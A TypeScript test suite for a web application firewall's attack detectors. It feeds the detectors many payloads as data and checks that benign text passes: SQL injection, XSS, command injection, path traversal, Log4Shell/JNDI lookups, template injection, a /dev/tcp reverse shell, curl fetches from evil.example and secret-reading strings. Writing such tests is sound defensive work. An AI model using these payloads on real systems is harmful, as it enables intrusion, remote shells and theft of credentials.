import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, test } from "node:test";
import { ATTACK_CLASSES, Detector, FieldExclusions, Inspection, blockingClasses, normalizeForDetection, shieldSchema, type AttackClass, type ParanoiaLevel } from "../../src/shield/index.js";

const detectors = new Map<ParanoiaLevel, Detector>();
function inspect(value: string, options: { paranoia?: ParanoiaLevel; field?: string; kind?: "value" | "key" } = {}) {
  const paranoia = options.paranoia ?? 1;
  if (!detectors.has(paranoia)) detectors.set(paranoia, new Detector({ classes: new Set(ATTACK_CLASSES), paranoia }));
  const inspection = new Inspection({ maxJsonDepth: 32, maxJsonKeys: 1000, maxFieldLength: 1_000_000, maxUrls: 1e9, maxPhoneNumbers: 1e9, detector: detectors.get(paranoia)! });
  inspection.text(options.field ?? "query.q", value, options.kind ?? "value");
  return inspection.finish();
}
const classesOf = (value: string, options?: Parameters<typeof inspect>[1]) => new Set(inspect(value, options).map((f) => f.check));

function assertCaught(cls: AttackClass, attacks: readonly string[]) {
  for (const attack of attacks) assert.ok(classesOf(attack).has(cls), `${cls} not found in ${JSON.stringify(attack)}: ${JSON.stringify(inspect(attack))}`);
}

describe("the shield's detectors, from the attacker's side", () => {
  test("SQL injection in each dialect and evasion, read bare and as the rest of a quoted literal", () => {
    assertCaught("sqli", [
      "' OR '1'='1",
      "1' AND 1=1-- -",
      "admin'--",
      "admin' #",
      "1)) or ((1=1",
      " or 1=1",
      "x' NOT LIKE 'y",
      "1 ORDER BY 3#",
      "' GROUP BY id HAVING 1=1--",
      "-1 UNION ALL SELECT NULL,@@version,NULL",
      "1 UN/**/ION SE/**/LECT 1,2",
      "'/**/or/**/1/**/=/**/1",
      "1 /*!50000UNION*/ /*!50000SELECT*/ password FROM users",
      "1; DROP TABLE users",
      "'; EXEC master..xp_cmdshell 'dir'--",
      "1' AND SLEEP(5)--",
      "1'; WAITFOR DELAY '0:0:5'--",
      "1 AND pg_sleep(5)",
      "1 AND 1=cast(version() as int)",
      "' AND extractvalue(1,concat(0x7e,(select user())))--",
      "' UNION SELECT table_name FROM information_schema.tables--",
      "1 AND dbms_pipe.receive_message('a',5)=1",
      "1 and randomblob(100000000)",
      "') waitfor delay '0:0:20' --",
      "',NULL,NULL) waitfor delay '0:0:5'--",
      "'+sleep(5)+'",
      "\" or \"\"=\"",
      "1 or true--",
      "1%27%20OR%20%271%27%3D%271",
      "1′ OR 1=1".replace("′", "'"),
    ]);
  });

  test("cross-site scripting however the tag is quoted, encoded or split", () => {
    assertCaught("xss", [
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      '<img title=">" src=x onerror=alert(1)>',
      // A handler inside a quoted value, for the contexts that read it unquoted.
      '<a title="<img src=x onerror=alert(1)>">',
      '<a href=x title="`"><img src=x onerror=alert(1)>',
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<svg/onload=alert(1)>",
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<a href="  javascript:alert(1)">x</a>',
      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
      '<div style="background:url(javascript:alert(1))">',
      "<img style=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
      '<div style="behavior: url(x.htc)">',
      '" autofocus onfocus=alert(1) x="',
      '"autofocus/onfocus=alert(1)//',
      "';alert(1)//",
      '"-alert(1)-"',
      "alert`1`",
      "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
      "<%00script>alert(1)</script>",
      "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
      "＜script＞alert(1)＜/script＞",
      "\\u003cimg src=x onerror=alert(1)\\u003e",
    ]);
  });

  test("command injection in sh and cmd syntax, with the shell's own quoting undone", () => {
    assertCaught("cmdi", [
      "; cat /etc/passwd",
      "|id",
      "a && whoami",
      "x || curl -s http://evil.example/x.sh",
      "`id`",
      "$(curl -s evil.example)",
      "$(sleep 5)",
      "; sleep 5",
      "foo\nid",
      "foo%0aid",
      "x; c''at /etc/host''name",
      "x; c\\at /etc/hosts",
      "x & w^h^o^a^m^i",
      ";cat${IFS}/etc/passwd",
      "{cat,/etc/passwd}",
      "x; /???/??t /???/p??s??",
      '"||/usr/bin/id|"',
      "/usr/bin/id",
      "uname -a",
      "nohup sh -c 'id' &",
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "for %v in (a b) do echo %v",
      "for /f %i in ('whoami') do echo %i",
      "if exist c:\\boot.ini type c:\\boot.ini",
      "cmd.exe /c dir",
      "powershell -enc SQBFAFgA",
      "system('id')",
      "';phpinfo();//",
      "() { :; }; /bin/bash -c 'id'",
    ]);
  });

  test("path traversal after every decoding a stack may apply", () => {
    assertCaught("traversal", [
      "../../etc/passwd",
      "..%2F..%2Fetc%2Fpasswd",
      "..%252f..%252fetc%252fpasswd",
      "..\\..\\windows\\win.ini",
      "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
      "..%c1%9c..%c1%9cboot.ini",
      "..%u2216..%u2216windows",
      "/.../.../etc",
      "....//....//etc/passwd",
      "..;/..;/manager/html",
      "0x2e0x2e/0x2e0x2e/etc",
      ".\\/\\.\\.\\/\\.\\.\\/etc",
      "/etc/shadow",
      "C:\\Windows\\System32\\drivers\\etc\\hosts",
      "/var/www/html/.htaccess",
      "shell.php%00.jpg",
    ]);
  });

  test("the classes beyond CRS's four: inclusion, Java, templates, NoSQL, LDAP, XPath, CRLF", () => {
    assertCaught("inclusion", ["php://filter/convert.base64-encode/resource=index.php", "phar://upload/x.jpg/shell", "expect://id", "http://evil.example/shell.txt?", "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==", "<?php system($_GET[0]); ?>"]);
    assertCaught("java", [
      "${jndi:ldap://evil.example/a}",
      "${${lower:j}ndi:ldap://evil.example/a}",
      "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
      "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}",
      "${env:AWS_SECRET_ACCESS_KEY}",
      "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
    ]);
    assertCaught("ssti", ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config.items()}}", "{{ lipsum.__globals__['os'].popen('id').read() }}", '<#assign ex="freemarker.template.utility.Execute"?new()>']);
    assertCaught("nosql", ['{"$ne": null}', "' || this.password.match(/.*/)//", "'; return true; var x='", "db.users.find()"]);
    assert.ok(classesOf("$ne", { kind: "key", field: "body.password.$ne" }).has("nosql"), "an operator as a JSON key");
    assert.ok(classesOf("user[$gt]", { kind: "key", field: "query.user[$gt]" }).has("nosql"), "an operator in a bracketed query name");
    assertCaught("ldap", ["*)(uid=*))(|(uid=*", "admin)(&)", "*(|(mail=*))", "x)(|(objectclass=*)"]);
    assertCaught("xpath", ["' or count(/child::node())=1 or '", "x'] | //user[name='admin", "' or name()='username"]);
    assertCaught("crlf", ["%0d%0aSet-Cookie:%20session=attacker", "x\r\nLocation: https://evil.example", "x%0d%0a%0d%0a<html>owned", "a\nHTTP/1.1 200 OK"]);
  });

  test("a line break where a space would be hides nothing from the languages that read it as one", () => {
    for (const [attack, cls] of [
      ["1 or%0a1=1", "sqli"],
      ["1;%0adrop table users", "sqli"],
      ["1 union%0aselect 1,2", "sqli"],
      ["replace into users values (1)", "sqli"],
      ["1 and%0asleep(5)", "sqli"],
      ["<img src=x%0aonerror=alert(1)>", "xss"],
      ['"%0aonfocus=alert(1) autofocus x="', "xss"],
      ["{{7%0a*%0a7}}", "ssti"],
      ["*)%0a(uid=*))(|(uid=*", "ldap"],
      ["${jndi%0a:ldap://x/a}", "java"],
      ["x%0a;%0acat /etc/passwd", "cmdi"],
    ] as const) {
      assert.ok(classesOf(attack).has(cls), `${cls} not found in ${attack}`);
    }
  });

    test("URLs to internal hosts are found in any spelling, and only reported by default", () => {
    for (const url of ["http://169.254.169.254/latest/meta-data/", "http://127.1/admin", "http://2130706433/", "http://0x7f.1/", "http://[::ffff:127.0.0.1]/", "http://localhost:8080/", "http://metadata.google.internal/", "gopher://evil.example:25/x", "http://user@10.0.0.1/"]) {
      assert.ok(classesOf(url).has("ssrf"), url);
    }
    assert.ok(!classesOf("https://example.com/callback").has("ssrf"));
    assert.equal(shieldSchema.parse({}).checks.ssrf, undefined, "no policy entry: the shield's own default (monitor) applies");
  });

  test("prose, names and data that sit close to the rules pass at level 1", () => {
    for (const value of [
      "O'Brien",
      "Mary-Jane O'Brien and D'Angelo",
      "Rock 'n' roll",
      "It's 5' or 6' tall",
      '7" #2 CIRCULAR NEEDLE',
      "12\" x 4' shelf (oak)",
      "select the best from our list where possible",
      "Tom & Jerry; a < b",
      "Save 20% on orders over $50",
      "Please update my delivery address; thanks!",
      "The document.cookie property explained",
      "Use eval( carefully",
      "a regular expression (regex) matches",
      "Hello {{name}}, your order is ready",
      "user@example.com",
      "C:\\Users\\me\\report.docx",
      "/home/alice/report.pdf",
      "Wait... what?",
      "1 or 2 items",
      "cats and dogs | birds",
      "| Id | Name |",
      "Ask about `mkdir` in chat",
      "https://example.com/path?x=1&y=2",
      "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
      "close() and stop() the server",
      "Note: see the Set-Cookie header docs",
    ]) {
      const found = inspect(value).filter((f) => f.check !== "ssrf");
      assert.deepEqual(found, [], `${JSON.stringify(value)} was flagged: ${JSON.stringify(found)}`);
    }
  });

  test("higher paranoia levels run more rules: what level 1 lets through, level 2 may refuse", () => {
    assert.equal(classesOf("select name from users").size, 0);
    assert.ok(classesOf("select name from users", { paranoia: 2 }).has("sqli"));
    assert.equal(classesOf("whoami", { paranoia: 1 }).has("cmdi"), true, "a command no prose spells, alone, counts at level 1");
    assert.equal(classesOf("ls", { paranoia: 1 }).has("cmdi"), false);
    assert.ok(classesOf("{{name}}", { paranoia: 3 }).has("ssti"));
    assert.ok(!classesOf("{{name}}", { paranoia: 2 }).has("ssti"));
  });
});

describe("scores, thresholds and exclusions", () => {
  const limits = (options: { threshold?: number; except?: unknown[] } = {}) => {
    const policy = shieldSchema.parse({ threshold: options.threshold ?? 5, except: options.except ?? [] });
    return {
      policy,
      limits: { ...policy, detector: new Detector({ classes: new Set(ATTACK_CLASSES) }), exclusions: new FieldExclusions(policy.except) },
    };
  };

  test("a class refuses once its findings in one request reach the threshold", () => {
    const { policy, limits: l } = limits({ threshold: 10 });
    const one = new Inspection(l);
    one.text("body.a", "<script>alert(1)</script>");
    assert.equal(blockingClasses(one.finish(), policy.threshold).size, 0, "one finding scores 5, under 10");
    const two = new Inspection(l);
    two.text("body.a", "<script>alert(1)</script>");
    two.text("body.b", "<img src=x onerror=alert(1)>");
    assert.deepEqual([...blockingClasses(two.finish(), policy.threshold)], ["xss"]);
    assert.deepEqual([...blockingClasses(two.findings, 5, { xss: 15 })], [], "a threshold per class");
  });

  test("twenty findings under a threshold hide neither another class nor the score that reaches it", () => {
    const { limits: l } = limits();
    const inspection = new Inspection(l);
    for (let i = 0; i < 25; i++) inspection.text(`body.a${i}`, "<script>alert(1)</script>");
    inspection.text("body.late", "' OR '1'='1");
    const findings = inspection.finish();
    assert.ok(findings.some((f) => f.check === "sqli" && f.field === "body.late"), "a check's first finding has room past the report's length");
    assert.deepEqual([...blockingClasses(findings, 5, { xss: 125 }, inspection.scoresBeyondReport)].sort(), ["sqli", "xss"], "25 findings of 5 reach 125");
    assert.deepEqual([...blockingClasses(findings, 5, { xss: 130 }, inspection.scoresBeyondReport)], ["sqli"]);
  });

    test("an excluded field is left alone by the classes it names, and only that field", () => {
    const { limits: l } = limits({ except: ["body.description", { field: "body.bio", checks: ["xss"] }, "body.items[*].note"] });
    const inspection = new Inspection(l);
    inspection.text("body.description", "<script>alert(1)</script>");
    inspection.text("body.bio", "<script>alert(1)</script>");
    inspection.text("body.bio", "' OR '1'='1");
    inspection.text("body.items[3].note", "<script>alert(1)</script>");
    // `*` stands for one index or name: it does not reach into what is under it.
    inspection.text("body.items[3].note.x", "<script>alert(1)</script>");
    inspection.text("body.descriptions", "<script>alert(1)</script>");
    inspection.text("body.title", "<script>alert(1)</script>");
    assert.deepEqual(
      inspection.finish().map((f) => [f.field, f.check]),
      [
        ["body.bio", "sqli"],
        ["body.items[3].note.x", "xss"],
        ["body.descriptions", "xss"],
        ["body.title", "xss"],
      ],
    );
  });

  test("exclusions and levels are validated", () => {
    assert.throws(() => shieldSchema.parse({ except: ["description"] }), /must start with path, query, header, cookie or body/);
    assert.throws(() => shieldSchema.parse({ except: [{ field: "body.x", checks: ["fieldLength"] }] }));
    assert.throws(() => shieldSchema.parse({ paranoia: 5 }));
    assert.throws(() => shieldSchema.parse({ threshold: 0 }));
  });

  test("a field refused for its length is not read further", () => {
    const policy = shieldSchema.parse({ maxFieldLength: 100 });
    const inspection = new Inspection({ ...policy, detector: new Detector({ classes: new Set(ATTACK_CLASSES) }), refusesLongFields: true });
    inspection.text("body.a", `${"x".repeat(200)}<script>alert(1)</script>`);
    assert.deepEqual(
      inspection.finish().map((f) => f.check),
      ["fieldLength"],
    );
    // In monitor mode the field goes on to the upstream, so it is read.
    const monitoring = new Inspection({ ...policy, detector: new Detector({ classes: new Set(ATTACK_CLASSES) }) });
    monitoring.text("body.a", `${"x".repeat(200)}<script>alert(1)</script>`);
    assert.deepEqual(
      monitoring.finish().map((f) => f.check),
      ["fieldLength", "xss"],
    );
  });

  test("the level-1 shortcut, which skips classes by the characters a text holds, hides no finding", () => {
    const root = new URL("../../../", import.meta.url).pathname;
    const corpus = ["attacks.json", "attacks-heldout.json", "benign.json", "benign-heldout.json"].flatMap((name) => {
      const data = JSON.parse(readFileSync(`${root}bench/corpus/${name}`, "utf8")) as string[] | Record<string, string[]>;
      return Array.isArray(data) ? data : Object.values(data).flat();
    });
    const everything = new Detector({ classes: new Set(ATTACK_CLASSES), shortcut: false });
    const shortcut = new Detector({ classes: new Set(ATTACK_CLASSES) });
    const source = readFileSync(new URL(import.meta.url).pathname.replace(/\/dist\/(.*)\.js$/, "/$1.ts"), "utf8");
    // Every string this file and the project corpus hold, and each with its quotes and operators gone.
    const strings = [...corpus, ...[...source.matchAll(/"((?:[^"\\]|\\.){2,200})"/g)].map((m) => m[1]!)];
    for (const value of [...strings, ...strings.map((s) => s.replace(/['"`;|&()<>=]/g, " "))]) {
      const normalized = normalizeForDetection(value);
      assert.deepEqual(shortcut.detect(normalized), everything.detect(normalized), JSON.stringify(value));
    }
  });

  test("a remembered value is answered as before, in every request and for every kind", () => {
    const detector = new Detector({ classes: new Set(ATTACK_CLASSES) });
    for (let i = 0; i < 3; i++) assert.deepEqual(detector.inspect("<script>alert(1)</script>").map((d) => d.class), ["xss"]);
    assert.deepEqual(detector.inspect("$ne", "value"), [], "a value `$ne` is no operator");
    assert.deepEqual(detector.inspect("$ne", "key").map((d) => d.class), ["nosql"], "the same text as a name is");
    // Past its capacity the memory forgets the oldest values; answers stay the same.
    for (let i = 0; i < 3_000; i++) detector.inspect(`value ${i}`);
    assert.deepEqual(detector.inspect("<script>alert(1)</script>").map((d) => d.class), ["xss"]);
  });

  test("pathological input of every reader's trigger characters is read to its end and still found", () => {
    // No timing here (the bench measures cost): the padding must not hide what follows it.
    for (const [padding, attack, cls] of [
      ["'\"".repeat(5_000), "' OR '1'='1", "sqli"],
      ["<a b=".repeat(2_000), "<img src=x onerror=alert(1)>", "xss"],
      [";x".repeat(5_000), "; cat /etc/passwd", "cmdi"],
      ["${{".repeat(3_000), "${jndi:ldap://x/a}", "java"],
      ["a ".repeat(10_000), "../../etc/passwd", "traversal"],
      // A markdown-like `| id |` judged harmless first must not make a later `|id` pass as judged.
      ["| id | x ".repeat(100), "|id", "cmdi"],
    ] as const) {
      assert.ok(classesOf(padding + attack).has(cls), `${cls} after ${padding.length} characters of padding`);
    }
  });
});
